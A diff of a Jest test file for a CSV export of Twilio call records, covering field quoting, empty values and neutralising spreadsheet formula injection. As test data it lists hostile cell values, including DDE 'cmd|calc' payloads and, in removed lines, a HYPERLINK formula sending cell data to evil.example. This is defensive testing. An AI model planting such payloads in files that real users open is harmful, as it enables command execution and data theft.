@@ -1,11 +1,12 @@
-import { expect, test } from '@jest/globals';
+import { describe, expect, test } from '@jest/globals';
 import type { Call } from '../../src/calls/call.ts';
 import { CSV_HEADER, toCsv } from '../../src/calls/csv.ts';
+import { csvFields, csvRows } from '../csv-rows.ts';
 
-const call = (more: Partial<Call> = {}): Call => ({
+const CALL: Call = {
   sid: `CA${'1'.repeat(32)}`,
-  parentSid: null,
-  direction: 'inbound',
+  parentSid: `CA${'2'.repeat(32)}`,
+  direction: 'outbound-dial',
   from: '+15551230000',
   to: '+15551239999',
   status: 'completed',
@@ -14,66 +15,82 @@ const call = (more: Partial<Call> = {}): Call => ({
   durationSeconds: 61,
   price: '-0.01700',
   currency: 'USD',
-  ...more,
+};
+
+test('a call is a line, its times in UTC, its price as Twilio gives it', () => {
+  expect(CSV_HEADER + toCsv([CALL])).toBe(
+    'sid,parent_sid,direction,from,to,status,started_at,ended_at,duration_seconds,price,currency\r\n' +
+      `CA${'1'.repeat(32)},CA${'2'.repeat(32)},outbound-dial,+15551230000,+15551239999,completed,` +
+      '2026-03-10T09:05:07.000Z,2026-03-10T09:06:08.000Z,61,-0.01700,USD\r\n',
+  );
 });
 
-/** The cell of `from` as a reader of RFC 4180 takes it out of the line. */
-function fromCell(from: string): string {
-  const line = toCsv([call({ from })]);
-  const [, quoted, plain] =
-    /^CA1{32},,inbound,(?:"((?:[^"]|"")*)"|([^",\r\n]*)),\+15551239999,/.exec(line) ?? [];
-  return quoted === undefined ? String(plain) : quoted.replaceAll('""', '"');
+test('what Twilio does not say is empty; no duration is not a duration of 0', () => {
+  const nothing = { parentSid: null, direction: null, from: null, to: null, price: null };
+  const times = { startedAt: null, endedAt: null, durationSeconds: null, currency: null };
+  const [fields] = csvFields(toCsv([{ ...CALL, ...nothing, ...times, status: 'queued' }]));
+  expect(fields).toEqual([CALL.sid, '', '', '', '', 'queued', '', '', '', '', '']);
+  expect(csvFields(toCsv([{ ...CALL, durationSeconds: 0 }]))[0]?.[8]).toBe('0');
+});
+
+/** `from` as a program reads it, and as the file has it. */
+function from(value: string) {
+  const text = CSV_HEADER + toCsv([{ ...CALL, from: value }, CALL]);
+  const [first, second] = csvRows(text);
+  expect(second?.from).toBe(CALL.from);
+  return first?.from;
 }
 
-test('a call is a line: times in ISO 8601, numbers and prices as they are', () => {
-  expect(CSV_HEADER).toBe(
-    'sid,parent_sid,direction,from,to,status,started_at,ended_at,duration_seconds,price,currency\r\n',
-  );
-  expect(toCsv([call(), call({ parentSid: `CA${'2'.repeat(32)}` })])).toBe(
-    [
-      `CA${'1'.repeat(32)},,inbound,+15551230000,+15551239999,completed,2026-03-10T09:05:07.000Z,2026-03-10T09:06:08.000Z,61,-0.01700,USD\r\n`,
-      `CA${'1'.repeat(32)},CA${'2'.repeat(32)},inbound,+15551230000,+15551239999,completed,2026-03-10T09:05:07.000Z,2026-03-10T09:06:08.000Z,61,-0.01700,USD\r\n`,
-    ].join(''),
-  );
-});
-
-test('what Twilio does not say is empty; a duration of 0 is not', () => {
-  const nothing = { direction: null, from: null, to: null, price: null, currency: null };
-  const queued = { status: 'queued', startedAt: null, endedAt: null, durationSeconds: null };
-  expect(toCsv([call({ ...nothing, ...queued })])).toBe(`CA${'1'.repeat(32)},,,,,queued,,,,,\r\n`);
-  expect(toCsv([call({ durationSeconds: 0 })])).toContain('Z,0,-0.01700');
-  expect(toCsv([])).toBe('');
-});
-
 test.each([
-  'client:alice',
-  'anonymous',
-  '+442071838750',
-  'sip:desk@pbx.example.com;transport=tls',
-  'a "quoted" name, and a comma',
+  'sip:"Front, desk"@pbx.example.com',
   'two\r\nlines',
-  'tab\tin it',
-  'Zoë 電話',
-])('%j comes out as it went in', (from) => {
-  expect(fromCell(from)).toBe(from);
+  'a line\nfeed',
+  'semi;colon',
+  'a\ttab',
+  '"',
+  ',',
+  'Zoë, 東京 📞',
+])('%j is one field, and comes back as it was', (value) => {
+  expect(from(value)).toBe(value);
 });
 
-test.each([
-  ['=HYPERLINK("https://evil.example/?"&A1)', `'=HYPERLINK("https://evil.example/?"&A1)`],
-  ['@SUM(A1)', "'@SUM(A1)"],
-  ['+1555+cmd|calc!A0', "'+1555+cmd|calc!A0"],
-  ['-2+3', "'-2+3"],
-  ['\t=1', "'\t'=1"],
-  ['\r=1', "'\r'=1"],
-  ['＝1+1', "'＝1+1"],
-  ['x;=1', "x;'=1"],
-  ['x\t@y', "x\t'@y"],
-])('%j is no formula any more', (from, text) => {
-  expect(fromCell(from)).toBe(text);
+test.each(['semi;colon', 'a\ttab'])('%j is quoted for those who part fields there', (value) => {
+  expect(toCsv([{ ...CALL, from: value }])).toContain(`,"${value}",`);
 });
 
-test('numbers are no formulas, whatever their sign', () => {
-  for (const price of ['-0.0085', '+1', '12', '-3.00000']) {
-    expect(toCsv([call({ price })])).toContain(`,61,${price},USD\r\n`);
-  }
+describe('a formula', () => {
+  test.each([
+    ['=1+1', "'=1+1"],
+    ['=cmd|" /C calc"!A0', '\'=cmd|" /C calc"!A0'],
+    ['+1+1', "'+1+1"],
+    ['-1+cmd', "'-1+cmd"],
+    ['@SUM(A1)', "'@SUM(A1)"],
+    ['\t=1+1', "'\t'=1+1"],
+    ['\r=1+1', "'\r'=1+1"],
+    ['\n=1+1', "'\n'=1+1"],
+    ['＝1+1', "'＝1+1"],
+    ['＋1', "'＋1"],
+    ['－1', "'－1"],
+    ['＠A1', "'＠A1"],
+    // Where ; or a tab parts the cells, even within quotes; a quote opens a cell then.
+    ['x;=1+1', "x;'=1+1"],
+    ['x\t@A1', "x\t'@A1"],
+    ['x;"=1+1"', 'x;"\'=1+1"'],
+    ['"=1+1"', '"\'=1+1"'],
+  ])('%j becomes a text', (value, text) => {
+    expect(from(value)).toBe(text);
+  });
+
+  test.each([
+    '+15551234567',
+    '-0.0085',
+    '266696687',
+    '1.5',
+    'client:=alice',
+    'sip:+15551234567@pbx.example.com',
+    'anonymous',
+    'a-b+c@d',
+  ])('is not what %j is', (value) => {
+    expect(from(value)).toBe(value);
+  });
 });
